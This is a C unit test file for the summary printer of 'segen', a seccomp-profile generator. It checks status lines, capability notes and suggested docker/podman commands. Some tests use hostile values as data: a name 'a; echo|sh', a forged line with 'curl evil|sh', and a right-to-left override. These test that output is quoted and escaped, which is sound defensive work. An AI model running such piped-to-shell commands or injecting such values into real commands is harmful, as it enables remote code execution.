/* test-summary.c: what is said at the end of a run. */
#include "cmd/summary.h"

#include <segen/syscall.h>

#include <signal.h>
#include <string.h>

#include "tests/tap.h"

/* A run with a report of its own, as the generator would make it. */
struct scene {
	struct segen_trace trace;
	struct gen_report report;
	struct target target;
	struct summary summary;
	struct judged judged[4];
};

static const char *const names[] = {"read", "chroot", "syslog", "bpf"};

static struct segen_call *call(struct scene *s, const char *name)
{
	const struct segen_arch *arch = segen_arch_native();
	struct segen_call *c =
		segen_trace_call(&s->trace, arch, segen_syscall_nr(arch, name), NULL);
	struct segen_observation *seen = segen_call_seen(c, 0);

	seen->count++;
	segen_seen_outcome(seen, 0, 1);
	segen_seen_program(seen, segen_trace_program(&s->trace, "/bin/app"));
	return c;
}

static void gate(struct judged *j, const char *word)
{
	j->class = CLASS_GATED;
	j->gate_open = true;
	segen_strset_add(&j->gates, word);
}

static void scene_init(struct scene *s)
{
	char *argv[] = {(char *)"app", NULL};
	struct segen_run *run;

	*s = (struct scene){};
	segen_trace_add_run(&s->trace, argv);
	run = s->trace.runs[0];
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		s->judged[i] = (struct judged){.call = call(s, names[i]),
					       .name = (char *)names[i],
					       .in_profile = true};
	gate(&s->judged[1], "CAP_SYS_CHROOT");
	gate(&s->judged[2], "CAP_SYSLOG");
	gate(&s->judged[2], "CAP_SYS_ADMIN");
	gate(&s->judged[3], "arch amd64");
	s->report.calls = s->judged;
	s->report.n_calls = ARRAY_SIZE(s->judged);
	s->report.base_allows = 309;
	s->report.profile_allows = 81;
	s->report.origins[ORIGIN_SEEN] = 50;
	s->report.origins[ORIGIN_ESSENTIAL] = 7;
	s->report.origins[ORIGIN_RUNTIME] = 24;
	target_init_default(&s->target);
	run->exit = 3;
	run->duration_ms = 61000;
	run->processes = 2;
	s->summary.run = run;
	s->summary.name = "app";
	s->summary.trace = &s->trace;
	s->summary.report = &s->report;
	s->summary.target = &s->target;
	s->summary.trace_path = "app.trace.json";
	s->summary.profile_path = "app.seccomp.json";
}

static void scene_done(struct scene *s)
{
	for (size_t i = 0; i < ARRAY_SIZE(s->judged); i++)
		segen_strset_done(&s->judged[i].gates);
	s->report.calls = NULL; /* are the scene's */
	s->report.n_calls = 0;
	gen_report_done(&s->report);
	segen_trace_done(&s->trace);
	target_done(&s->target);
}

/* The text for @s; the caller's to free. */
static char *text(const struct scene *s)
{
	struct segen_buf out = {};

	const struct layout l = {.out = &out, .width = UINT32_MAX};

	summary_text(&s->summary, &l);
	return out.s;
}

static void has(const char *text, const char *line)
{
	if (!ok(strstr(text, line) != NULL, "summary: has the line '%.*s'",
		(int)strcspn(line, "\n"), line))
		printf("# got: %s\n", text);
}

static void test_all(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	gen_warn(&s.report, WEIGHT_BREAK, "mind the gap");
	segen_strset_add(&s.trace.runs[0]->notes, "something ended early");
	got = text(&s);
	has(got, "segen: 'app' ended with status 3 after 1m01s; 2 processes\n");
	has(got,
	    "  calls     4 distinct; the profile allows 81 = 50 seen + 7 essential + 24 "
	    "runtime, of the 309 that the base does\n");
	has(got, "  gated     chroot: through CAP_SYS_CHROOT\n");
	has(got, "  gated     syslog: through CAP_SYSLOG or CAP_SYS_ADMIN\n");
	has(got, "  remark    something ended early\n");
	has(got, "  warning   mind the gap\n");
	has(got, "  trace     app.trace.json\n");
	has(got, "  profile   app.seccomp.json\n");
	has(got,
	    "  next      docker run --security-opt seccomp=app.seccomp.json IMAGE\n");
	ok(!strstr(got, "bpf"),
	   "summary: a gate of the architecture is not worth a line");
	ok(!strstr(got, "read"), "summary: a call that is simply allowed is not listed");
}

static void test_shut_gate(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	s.judged[1].gate_open = false;
	got = text(&s);
	ok(!strstr(got, "through CAP_SYS_CHROOT"),
	   "summary: nothing goes through a shut gate");
}

static void test_capabilities(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	target_drop_caps(&s.target, "chown", NULL);
	target_add_caps(&s.target, "syslog", NULL);
	got = text(&s);
	has(got, "docker run --cap-drop CHOWN --cap-add SYSLOG --security-opt");
}

static void test_no_profile(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	s.summary.report = NULL;
	s.summary.profile_path = NULL;
	got = text(&s);
	has(got, "  calls     4 distinct\n");
	has(got, "  next      segen gen app.trace.json -o app.seccomp.json\n");
	ok(!strstr(got, "docker") && !strstr(got, "  profile "),
	   "no profile: no word of it");
	free(got);
	s.summary.name = "a; echo|sh";
	got = text(&s);
	has(got, "  next      segen gen app.trace.json -o 'a; echo|sh.seccomp.json'\n");
}

static void test_standard_output(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	s.summary.trace_path = s.summary.profile_path = "-";
	got = text(&s);
	ok(!strstr(got, "  trace ") && !strstr(got, "  profile ") &&
		   !strstr(got, "  next "),
	   "standard output: is not named as a file");
}

static void test_many_runs(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;
	char *argv[] = {(char *)"app", NULL};

	scene_init(&s);
	segen_trace_add_run(&s.trace, argv);
	got = text(&s);
	has(got, "; 2 processes; the trace holds 2 runs\n");
}

static void test_ends(void)
{
	static const struct {
		int status, signal;
		enum ended_by by;
		const char *want;
	} ends[] = {
		{139, SIGSEGV, ENDED_BY_ITSELF,
		 "was ended by SIGSEGV (status 139) after"},
		{130, SIGINT, ENDED_BY_ITSELF,
		 "was ended by SIGINT, ^C (status 130) after"},
		{163, 35, ENDED_BY_ITSELF, "was ended by signal 35 (status 163) after"},
		{139, 0, ENDED_BY_ITSELF, "ended with status 139 after"},
		{143, SIGTERM, ENDED_BY_TIME,
		 "was ended by --for (SIGTERM; status 143) after"},
		{137, SIGKILL, ENDED_BY_TIME_KILL,
		 "was ended by --for (SIGKILL, because SIGTERM did not end it; status 137)"},
		{137, SIGKILL, ENDED_BY_SECOND_INT,
		 "was ended by a second interrupt (SIGKILL; status 137)"},
		{-1, 0, ENDED_BY_ITSELF, "was recorded for"},
	};

	for (size_t i = 0; i < ARRAY_SIZE(ends); i++) {
		_cleanup_(scene_done) struct scene s;
		_cleanup_free_ char *got = NULL;

		scene_init(&s);
		s.trace.runs[0]->exit = ends[i].status;
		s.summary.signal = ends[i].signal;
		s.summary.ended_by = ends[i].by;
		got = text(&s);
		has(got, ends[i].want);
	}
}

static void test_advice(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *failed = NULL, *good = NULL;

	scene_init(&s);
	failed = text(&s);
	has(failed, "  failed    anything after the failure is missing from the trace");
	s.trace.runs[0]->exit = 0;
	good = text(&s);
	ok(!strstr(good, "  failed "),
	   "summary: a workload that succeeds has not failed");
}

static void test_forgery(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	s.summary.name = "a\n  profile   evil.json\n  next      curl evil|sh";
	segen_strset_add(&s.trace.runs[0]->notes, "x\n  next \342\200\256 \tmore");
	got = text(&s);
	has(got, "segen: 'a\\n  profile   evil.json\\n  next      curl evil|sh' ended");
	has(got, "  remark    x\\n next \\u202e \\tmore\n");
	ok(!strstr(got, "\n  profile   evil"), "names: cannot add a line");
}

static void test_news(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *first = NULL, *none = NULL;
	char *argv[] = {(char *)"app", NULL};

	scene_init(&s);
	s.summary.appended = true;
	strcpy(s.trace.runs[0]->id, "000000010000000000000000");
	first = text(&s);
	has(first,
	    "  added     4 calls that no earlier run made: read, chroot, syslog, bpf\n");
	for (unsigned i = 2; i < 5; i++) {
		size_t run = segen_trace_add_run(&s.trace, argv);

		snprintf(s.trace.runs[run]->id, sizeof(s.trace.runs[run]->id),
			 "%08x0000000000000000", i);
		segen_call_seen(s.trace.calls[0], run)->count++;
		s.summary.run_index = run;
	}
	none = text(&s);
	has(none, "  added     nothing new, for 3 runs in a row\n");
}

static void test_next(void)
{
	static const struct {
		const char *argv[12], *want;
	} lines[] = {
		{{"podman", "run", "--rm", "bb", "sh", "-c", "echo a b"},
		 "  next      podman run --security-opt seccomp=app.seccomp.json --rm bb sh -c "
		 "'echo a b'\n"},
		{{"docker", "run", "--security-opt", "seccomp=unconfined",
		  "--security-opt", "no-new-privileges", "bb"},
		 "  next      docker run --security-opt seccomp=app.seccomp.json --security-opt "
		 "no-new-privileges bb\n"},
		{{"docker", "run", "-e", "PASSWORD=x1", "bb"},
		 "  next      docker run --security-opt seccomp=app.seccomp.json -e "
		 "'PASSWORD=***' bb\n"},
	};

	for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
		_cleanup_(scene_done) struct scene s;
		_cleanup_free_ char *got = NULL;
		struct engine_cmdline c;

		scene_init(&s);
		engine_cmdline_parse((char *const *)lines[i].argv, &c);
		s.summary.argv = (char *const *)lines[i].argv;
		s.summary.engine = &c;
		got = text(&s);
		has(got, lines[i].want);
	}
}

static void test_next_plain(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_free_ char *got = NULL;
	char *argv[] = {(char *)"tar", (char *)"-cf", (char *)"my file", NULL};

	scene_init(&s);
	s.summary.argv = argv;
	s.trace.runs[0]->container.known = s.trace.runs[0]->container.no_new_privs = true;
	got = text(&s);
	has(got, "  next      docker run --security-opt no-new-privileges --security-opt "
		 "seccomp=app.seccomp.json IMAGE tar -cf 'my file'\n");
}

static void test_replaced(void)
{
	_cleanup_(scene_done) struct scene s;
	_cleanup_(earlier_done) struct earlier e = {
		.path = xstrdup("app.trace.json.old")};
	_cleanup_free_ char *got = NULL;

	scene_init(&s);
	segen_strset_add(&e.lost, "mkdir");
	s.summary.earlier = &e;
	got = text(&s);
	has(got,
	    "  replaced  the previous trace held 1 more call than this run (mkdir); it is kept as app.trace.json.old; to combine both:\n");
	has(got,
	    "            segen merge -o app.trace.json app.trace.json.old app.trace.json\n");
}

int main(void)
{
	test_ends();
	test_advice();
	test_forgery();
	test_news();
	test_next();
	test_next_plain();
	test_replaced();
	test_all();
	test_shut_gate();
	test_capabilities();
	test_no_profile();
	test_standard_output();
	test_many_runs();
	return done();
}
